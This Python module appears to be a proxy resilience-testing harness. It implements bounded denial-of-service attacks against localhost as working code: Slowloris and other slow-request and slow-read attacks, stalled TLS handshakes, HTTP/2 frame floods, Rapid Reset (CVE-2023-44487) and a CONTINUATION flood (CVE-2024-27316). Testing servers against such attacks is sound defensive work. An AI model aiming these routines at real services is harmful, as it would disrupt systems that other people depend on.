"""Attackers with raw sockets. Each is a process of its own that is nicer than those it attacks, and stops when told.

An attack is a generator: what it does up to its first `yield` is its preparation; each step after that is one burst, and
what it yields is how long it rests then. All of them are bounded: so many connections, so many bytes a burst.
"""

import contextlib
import errno
import multiprocessing
import os
import signal
import socket
import ssl
import struct
import sys
import time
import traceback

# Where attackers come from: every address of 127.0.0.0/8 is this machine's.
HERE = ("127.0.0.2", 0)

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
INITIAL_WINDOW_SIZE = 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Attack(multiprocessing.get_context("fork").Process):
    """A running attack; `with` waits until it is prepared, and ends it."""

    def __init__(self, name, steps, nicer):
        super().__init__(name=name, daemon=True)
        self.steps, self.nicer = steps, nicer
        self.prepared = multiprocessing.get_context("fork").Event()

    def run(self):
        os.nice(self.nicer)
        # What the client shares with it is the core, not its time: what the proxy makes the client wait is to be seen.
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
        signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
        try:
            for rest in self.steps:
                self.prepared.set()
                time.sleep(rest)
        except Exception:
            traceback.print_exc(file=sys.stderr)
            os._exit(1)

    def __enter__(self):
        self.start()
        if not self.prepared.wait(60):
            raise RuntimeError(f"{self.name}: was not prepared")
        return self

    def __exit__(self, *_):
        if not self.is_alive() and self.exitcode:
            raise RuntimeError(f"{self.name}: died of {self.exitcode}")
        self.terminate()
        self.join(10)


def connect(port, receive=None):
    """A connection; `receive` bytes of answers at most wait in the kernel."""
    stream = socket.socket()
    if receive:
        stream.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
    stream.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    # Without it 127.0.0.2 has too few ports for all who come and go.
    stream.setsockopt(socket.IPPROTO_IP, getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24), 1)
    stream.bind(HERE)
    stream.settimeout(10)
    stream.connect(("127.0.0.1", port))
    stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return stream


def reset(stream):
    """Ends a connection so that no port is left in TIME_WAIT."""
    with contextlib.suppress(OSError):
        stream.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    stream.close()


def said(stream, what):
    """Sends what the proxy takes at once; False where the connection is over."""
    try:
        stream.setblocking(False)
        stream.send(what)
        return True
    except BlockingIOError:
        return True
    except OSError:
        return False


def request(path="/", method="GET", more=""):
    return f"{method} {path} HTTP/1.1\r\nHost: flood\r\nUser-Agent: attacker\r\n{more}\r\n".encode()


def frame(kind, flags=0, stream=0, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def fields(path="/", method=0x82):
    """GET (0x82) or POST (0x83) for a path, as a header block."""
    literal = lambda index, value: bytes([0x40 | index, len(value)]) + value
    return bytes([method, 0x86]) + literal(4, path.encode()) + literal(1, b"flood")


def h2(port, window=None):
    """A connection over HTTP/2 without TLS that has said hello."""
    stream = connect(port, receive=4096 if window is not None else None)
    hello = [] if window is None else [INITIAL_WINDOW_SIZE, window]
    payload = b"".join(struct.pack(">HI", *hello[at : at + 2]) for at in range(0, len(hello), 2))
    stream.sendall(PREFACE + frame(SETTINGS, 0, 0, payload) + frame(SETTINGS, ACK))
    return stream


# Connections that are held.


def opened(count, one):
    """So many, as fast as the flood of connections has them: 20 every 5 ms."""
    some = []
    for number in range(count):
        if number % 20 == 19:
            time.sleep(0.005)
        some.append(one())
    return some


def idle(port, count):
    """One request each, and then nothing."""
    held = []
    for start in range(0, count, 200):
        some = [connect(port) for _ in range(min(200, count - start))]
        for stream in some:
            stream.sendall(request())
        for stream in some:
            stream.recv(4096)
        held += some
    while True:
        yield 0.2


def idle_tls(port, count):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    held = []
    for _ in range(count):
        stream = context.wrap_socket(connect(port), server_hostname="localhost")
        stream.sendall(request())
        stream.recv(4096)
        held.append(stream)
    while True:
        yield 0.2


def idle_h2(port, count):
    held = []
    for _ in range(count):
        stream = start(h2(port), frame(HEADERS, END_HEADERS | END_STREAM, 1, fields()))
        answer = b""
        while b"hello" not in answer:
            answer += received(stream)
        held.append(stream)
    while True:
        yield 0.2


def slow_head(port, count):
    """Slowloris: a head that grows by one byte now and then, and never ends."""
    held, at = [], 0
    while True:
        held = [stream for stream in held if said(stream, b"x")]
        held += opened(count - len(held), lambda: start(connect(port), request()[:-2] + b"X: "))
        yield 0.5


def start(stream, what):
    stream.sendall(what)
    return stream


def received(stream):
    """Some bytes; an error where there are no more."""
    if some := stream.recv(1 << 16):
        return some
    raise ConnectionResetError(errno.ECONNRESET, "closed")


def slow_body(port, count, length=1_000_000):
    """A large body, one byte at a time."""
    head = request("/sleep/", "POST", f"Content-Length: {length}\r\n")
    held = []
    while True:
        held = [stream for stream in held if said(stream, b"x")]
        held += opened(count - len(held), lambda: start(connect(port), head))
        yield 0.5


def silent_body(port, count):
    """A body that is announced and never comes."""
    head = request("/sleep/", "POST", "Content-Length: 10\r\n")
    held = opened(count, lambda: start(connect(port), head))
    while held:
        yield 0.2


def slow_read(port, count):
    """Ten megabytes are asked for, and none of them is read."""
    held = opened(count, lambda: start(connect(port, receive=4096), request("/big")))
    while held:
        yield 0.2


def slow_read_h2(port, count, streams=100):
    """Streams by the hundred, each with a window of one byte, opened by one byte at a time."""
    held = []
    for _ in range(count):
        stream = h2(port, window=1)
        for number in range(streams):
            stream.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, fields("/big")))
        held.append(stream)
    one = struct.pack(">I", 1)
    more = b"".join(frame(WINDOW_UPDATE, 0, 2 * number + 1, one) for number in range(streams))
    while held:
        yield 0.2
        held = [stream for stream in held if said(stream, more)]


def stalled_tls(port, count):
    """The first bytes of a handshake."""
    held = []
    while True:
        held = [stream for stream in held if said(stream, b"\x01")]
        held += opened(count - len(held), lambda: start(connect(port), b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"))
        yield 0.5


def half_open_tunnel(port, count):
    """Tunnels whose client has said its last and stays."""
    held = []
    for _ in range(count):
        stream = start(connect(port), request("/sleep/", more="Upgrade: flood\r\nConnection: upgrade\r\n"))
        stream.recv(4096)
        stream.shutdown(socket.SHUT_WR)
        held.append(stream)
    while held:
        yield 0.2


# Work that is asked for again and again.


def comers_and_goers(port, count):
    """Connections that are opened and closed again, half of them with half a head."""
    while True:
        some = [connect(port) for _ in range(count)]
        for number, stream in enumerate(some):
            if number % 2:
                said(stream, b"GET / HTTP/1.1\r\nHo")
            stream.close()
        yield 0.005


def handshakes(port, count):
    """TLS to the end of the handshake and no further."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    while True:
        for _ in range(count):
            with contextlib.suppress(OSError):
                reset(context.wrap_socket(connect(port), server_hostname="localhost"))
        yield 0.01


def again(port, make, burst, rest, path="/"):
    """The same frames over one connection after another: `burst` of the next free stream, until the proxy has had enough."""
    while True:
        stream, number = h2(port), 1
        stream.settimeout(1)
        with contextlib.suppress(OSError):
            first = make(0)
            while True:
                frames, number = burst(number)
                stream.sendall(first + frames)
                first = b""
                drain(stream)
                yield rest
        reset(stream)
        yield rest


def drain(stream):
    """Reads what is there; an error where the connection is over."""
    stream.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        while received(stream):
            pass
    stream.settimeout(1)


def rapid_reset(port, each):
    """Requests to a server that never answers, each given up at once (CVE-2023-44487)."""
    cancel = struct.pack(">I", 8)

    def burst(number):
        one = lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, fields("/sleep/")) + frame(RST_STREAM, 0, stream, cancel)
        return b"".join(one(number + 2 * at) for at in range(each)), number + 2 * each

    return again(port, lambda _: b"", burst, 0.005)


def repeated(port, one, count, first=b""):
    """One frame, so many times a burst."""
    many = one * count
    return again(port, lambda _: first, lambda number: (many, number), 0.005)


def pings(port, count):
    return repeated(port, frame(PING, 0, 0, b"12345678"), count)


def settings(port, count):
    return repeated(port, frame(SETTINGS), count)


def priorities(port, count):
    return repeated(port, frame(PRIORITY, 0, 7, struct.pack(">IB", 0, 1)), count)


def window_updates(port, count):
    """Of the connection's window, by nothing to speak of; a stream that waits keeps the connection busy."""
    open_stream = frame(HEADERS, END_HEADERS | END_STREAM, 1, fields("/sleep/"))
    return repeated(port, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)), count, open_stream)


def empty_data(port, count):
    open_stream = frame(HEADERS, END_HEADERS, 1, fields("/sleep/", method=0x83))
    return repeated(port, frame(DATA, 0, 1), count, open_stream)


def continuations(port, count):
    """A head that never ends (CVE-2024-27316)."""
    open_stream = frame(HEADERS, 0, 1, fields())
    return repeated(port, frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y"), count, open_stream)
